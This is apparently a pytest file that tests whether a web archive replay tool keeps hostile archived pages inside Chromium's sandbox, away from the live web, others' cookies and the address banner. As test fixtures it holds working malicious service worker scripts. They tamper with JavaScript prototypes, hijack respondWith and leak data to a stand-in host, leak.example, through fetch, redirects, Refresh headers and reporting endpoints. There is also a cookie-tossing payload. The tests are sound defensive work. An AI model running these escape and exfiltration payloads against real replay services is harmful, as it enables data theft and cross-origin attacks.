"""Hostile archived pages in real Chromium: they reach neither the live web, nor another's cookies, nor the banner."""

import json
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from shim_browser import Chromium

sys.path.insert(0, str(Path(__file__).parent.parent / "integration"))

from bench.replay_answers import CLOSED, AnswerKind, answer_kinds, build_archive, exchange
from serve_calls import Client, served

STAMP = "20240301120000"
SITE, OTHER = "http://ways.example", "http://other.example"
EVIL = (
    "<!doctype html><title>made</title><script>fetch('http://leak.example/NAME', {mode: 'no-cors'})"
    ".finally(() => parent.postMessage('tried', '*'))</script>"
)
MADE = "new Response(EVIL, {headers: {'Content-Type': 'text/html'}})"
WORKERS = {
    "data": "onfetch = (e) => e.respondWith(fetch('data:text/html,' + encodeURIComponent(EVIL)));",
    "made": f"onfetch = (e) => e.respondWith({MADE});",
    "claims an address": f"const r = {MADE}; Object.defineProperty(r, 'url', {{value: location.origin + '/x'}});"
    "Object.defineProperty(Response.prototype, 'type', {get: () => 'basic'}); onfetch = (e) => e.respondWith(r);",
    "takes the native": "let native; Function.prototype.call = function(it, ...rest) {"
    " if (this.name === 'respondWith') native = this; return Reflect.apply(this, it, rest); };"
    "try { new FetchEvent('fetch', {request: new Request('/')}).respondWith(new Response('')); } catch {}"
    f"onfetch = (e) => native ? Reflect.apply(native, e, [{MADE}]) : e.respondWith({MADE});",
    "empties fields": "Headers.prototype[Symbol.iterator] = function*() {}; Headers.prototype.set = () => {};"
    f"Array.prototype[Symbol.iterator] = function*() {{}}; onfetch = (e) => e.respondWith({MADE});",
    "is a promise": f"const bare = {MADE}; Object.defineProperty(bare, 'then', {{value: undefined}});"
    "const get = Object.getOwnPropertyDescriptor(Response.prototype, 'headers').get, has = Headers.prototype.has;"
    "Object.defineProperty(Response.prototype, 'then', {get() { return has.call(get.call(this), 'connection-allowlist')"
    f" ? (yes) => yes(bare) : undefined; }}}}); onfetch = (e) => e.respondWith({MADE});",
    "redirects": "onfetch = (e) => e.respondWith(new Response(null, {status: 302,"
    " headers: {Location: 'http://leak.example/NAME'}}));",
    "refreshes": "onfetch = (e) => e.respondWith(new Response('x', {headers: {'Content-Type': 'text/html',"
    " Refresh: '0; url=http://leak.example/NAME', 'Reporting-Endpoints': 'default=\"http://leak.example/NAME\"'}}));",
    "routes": f"oninstall = (e) => {{ e.waitUntil(caches.open('c').then((c) => c.put('SCOPEpage', {MADE})));"
    " e.addRoutes({condition: {urlPattern: {pathname: 'SCOPEpage'}}, source: {cacheName: 'c'}}); };"
    "onfetch = () => {};",
    "reads another host": "onfetch = (e) => e.respondWith(fetch('http://other.example/evil'));",
    "a part": f"onfetch = (e) => e.respondWith({MADE});",
    "imports first": "let one = 1;\nimport './steal.js';\nonfetch = (e) => self.native ?"
    f" self.native.call(e, {MADE}) : e.respondWith({MADE});",
}
STEAL = "self.native = FetchEvent.prototype.respondWith;"
MODULES = ("imports first",)
RUN = """async (scope, type) => {
  const tried = new Promise((yes) => { onmessage = (event) => event.data === 'tried' && yes('tried'); });
  try {
    const registration = await navigator.serviceWorker.register(scope + 'sw.js', {scope, type});
    const worker = registration.installing || registration.waiting || registration.active;
    await new Promise((yes, no) => {
      const look = () => worker.state === 'activated' ? yes() : worker.state === 'redundant' && no();
      worker.onstatechange = look;
      look();
    });
  } catch (error) {
    return 'refused';
  }
  const {document: bare, Node} = window[0];
  const frame = bare.createElement('iframe');
  const loaded = new Promise((yes) => { frame.onload = () => yes('loaded'); });
  frame.src = new URL(scope + 'page', location).href;
  Node.prototype.appendChild.call(document.body, frame);
  const first = await Promise.race([tried, loaded]);
  let title = '';
  try { title = window[window.length - 1].document.title; } catch {}
  return title === 'made' ? tried : first;
}"""
FRAMED = """async (target) => {
  // A frame that the parser made is one the shim has not seen; what it can do is what a browser can do.
  const {document: bare, Node} = window[0];
  const frame = bare.createElement('iframe');
  const loaded = new Promise((yes) => { frame.onload = yes; });
  frame.src = new URL(target, location).href;
  Node.prototype.appendChild.call(document.body, frame);
  await loaded;
  const inner = window[window.length - 1];
  let blank;
  try {
    inner.document.documentElement.append(inner.document.createElement('iframe'));
    blank = inner[inner.length - 1];
    blank.document.title;
  } catch {
    return 'sealed';
  }
  const left = blank.fetch('http://leak.example/' + target.slice(0, 40), {mode: 'no-cors'});
  return left.then(() => 'out', () => 'stopped');
}"""
LIAR = """<title>liar</title><script>
const tell = (url, title) => parent.postMessage({webkeep: 'page', url, title}, '*');
onmessage = () => {
  tell('http://bank.example/login', 'Your bank');
  tell('https://ways.example/page', 'Another origin');
  tell('http://ways.example.evil.example/', 'Another yet');
  tell('http://ways.example/honest', 'Mine');
};
</script>"""
BANNER = """new Promise((yes) => {
  const place = document.getElementById('url'), frame = document.getElementById('page'), seen = [];
  new MutationObserver(() => {
    seen.push(place.title);
    if (place.title.endsWith('/honest')) {
      yes([seen, [...document.querySelectorAll('.original')].map((each) => each.href), document.title]);
    }
  }).observe(place, {attributes: true, attributeFilter: ['title']});
  frame.contentWindow.postMessage('go', '*');
})"""
ROUTED = "<title>start</title><script>document.title = 'part ' + location.hash</script><p>routed by hash"
KEEPS = """<body><iframe></iframe><script>
document.cookie = 'own=1; path=/';
window[0].document.cookie = 'tossed=1; domain=ksecret.localhost; path=/';
</script>"""
COUNTS = "X-Total: 7\r\nX-Frame-Options: DENY\r\nSet-Cookie: a=1;\x01Domain=ksecret.localhost\r\n"


class Canary:
    """Every name outside leads here; whoever comes has got out."""

    def __init__(self) -> None:
        self.visits: list[str] = []
        visits = self.visits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                visits.append(f"{self.headers.get('Host')}{self.path}")
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_port
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


def scope_of(name: str) -> str:
    return f"/{name.replace(' ', '-')}/"


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = []
    for name, script in WORKERS.items():
        scope = scope_of(name)
        text = f"const EVIL = {json.dumps(EVIL)};{script}" if name not in MODULES else f"{script}"
        text = text if name not in MODULES else text.replace("let one = 1;", f"const EVIL = {json.dumps(EVIL)};")
        text = text.replace("NAME", scope.strip("/")).replace("SCOPE", scope)
        text = text.replace("onfetch = (e) => ", "onfetch = (e) => e.request.mode !== 'navigate' ? 0 : ")
        status = 206 if name == "a part" else 200
        made.append(exchange(f"{SITE}{scope}sw.js", text, "text/javascript", status=status))
    made += [
        exchange(f"{SITE}{scope_of('imports first')}steal.js", STEAL, "text/javascript"),
        exchange(f"{SITE}/", "<!doctype html><title>start</title><body><iframe></iframe>"),
        exchange(f"{OTHER}/evil", EVIL.replace("NAME", "another")),
        exchange(f"{SITE}/liar", LIAR),
        exchange(f"{SITE}/comment", "<!-- <frameset --><p>no frames"),
        exchange(f"{SITE}/frames", "<!doctype html><title>x</title><frameset cols=50><frame src=/></frameset>"),
        exchange(f"{SITE}/routed", ROUTED),
        exchange(f"{SITE}/keeps", KEEPS),
        exchange(f"{OTHER}/reads", "<body>x", head=COUNTS),
    ]  # fmt: skip
    return build_archive(tmp_path_factory.mktemp("escapes") / "a", *made)


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    canary = Canary()
    yield canary
    canary.close()


@pytest.fixture(scope="module")
def client(archive: Path) -> Iterator[Client]:
    with served(archive, access=(CLOSED,)) as client:
        yield client


@pytest.fixture(scope="module")
def browser(canary: Canary, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    browser = Chromium(tmp_path_factory.mktemp("browser") / "profile", canary.port)
    yield browser
    browser.close()


def at(client: Client, path: str, host: str = "ways-example", secret: str = "") -> str:
    return f"http://{STAMP}h-{host}.{secret}localhost:{client.port}{path}"


def framed_kinds() -> list[AnswerKind]:
    return [each for each in answer_kinds() if each.method == "GET" and not each.name.startswith(("status", "type"))]


def test_no_answer_in_a_frame_is_a_way_out(browser: Chromium, client: Client, canary: Canary) -> None:
    page = browser.open(at(client, "/"))
    canary.visits.clear()
    found = {kind.name: page.value(f"({FRAMED})({json.dumps(kind.target)})") for kind in framed_kinds()}
    assert canary.visits == []
    assert set(found.values()) <= {"sealed", "stopped"}
    assert {found[name] for name in ("own shim.js", "own worker.js", "refused 414", "missing")} == {"sealed"}
    page.close()


@pytest.mark.parametrize("name", WORKERS)
def test_no_service_worker_is_a_way_out(browser: Chromium, client: Client, canary: Canary, name: str) -> None:
    page = browser.open(at(client, "/"))
    canary.visits.clear()
    kind = "module" if name in MODULES else "classic"
    ended = page.value(f"({RUN})({json.dumps(scope_of(name))}, {json.dumps(kind)})")
    assert canary.visits == []
    if name in ("data", "made", "claims an address", "takes the native", "is a promise"):
        assert ended == "tried", "the page was made, and it tried"
    if name in ("a part", "imports first"):
        assert ended == "refused"
    page.close()


def test_the_banner_is_told_by_the_browser_who_speaks(browser: Chromium, client: Client) -> None:
    page = browser.open(f"{client.root}/view/{STAMP}/{SITE}/liar")
    seen, originals, title = page.value(BANNER)
    assert seen[-1:] == [f"{SITE}/honest"]
    assert all(each.startswith(f"{SITE}/") for each in seen)
    assert set(originals) == {f"{SITE}/honest"}
    assert title == "Mine · webkeep"
    page.close()


def test_only_frames_take_the_sandbox_off(client: Client) -> None:
    assert b' sandbox="' in client.ask(f"/view/{STAMP}/{SITE}/comment").body
    assert b' sandbox="' not in client.ask(f"/view/{STAMP}/{SITE}/frames").body


def test_the_part_of_a_page_reaches_the_frame(browser: Chromium, client: Client) -> None:
    page = browser.open(f"{client.root}/view/{STAMP}/{SITE}/routed#/story/7")
    told = "new Promise((yes) => { const look = () => document.title.startsWith('part') && yes(document.title);"
    told += " new MutationObserver(look).observe(document.querySelector('title'), {childList: true}); look(); })"
    assert page.value(told) == "part #/story/7 · webkeep"
    page.close()


def test_hosts_that_could_share_cookies_have_none(browser: Chromium, archive: Path) -> None:
    with served(archive, secret="ksecret") as client:
        page = browser.open(at(client, "/keeps", secret="ksecret."))
        assert page.value("document.cookie") == "own=1", "a page's scripts have a jar of their own"
        assert page.value("cookieStore.getAll().then((all) => all.map((each) => each.name))") == ["own"]
        page.value("document.cookie = 'own=; max-age=0'")
        assert page.value("document.cookie") == ""
        page.close()
        reply = client.ask("/reads", host=f"{STAMP}h-other-example.ksecret.localhost:{client.port}")
        assert reply.all("Set-Cookie") == []
        other = browser.open(at(client, "/reads", "other-example", "ksecret."))
        assert other.value("document.cookie") == ""
        other.close()


def test_scripts_see_archived_fields_under_their_own_names(browser: Chromium, client: Client) -> None:
    assert client.replay(f"{STAMP}h-other-example", "/reads").get("X-Total") == ""
    page = browser.open(at(client, "/reads", "other-example"))
    fields = "fetch('/reads').then(({headers}) => [headers.get('x-total'), headers.has('X-Total'),"
    fields += " [...headers.keys()].includes('x-total'), headers.get('set-cookie')])"
    assert page.value(fields) == ["7", True, True, None]
    request = "const x = new XMLHttpRequest; x.open('GET', '/reads', false); x.send();"
    assert page.value(f"(() => {{ {request} return x.getResponseHeader('X-Total'); }})()") == "7"
    assert page.value(f"(() => {{ {request} return /^x-total: 7$/m.test(x.getAllResponseHeaders()); }})()") is True
    page.close()
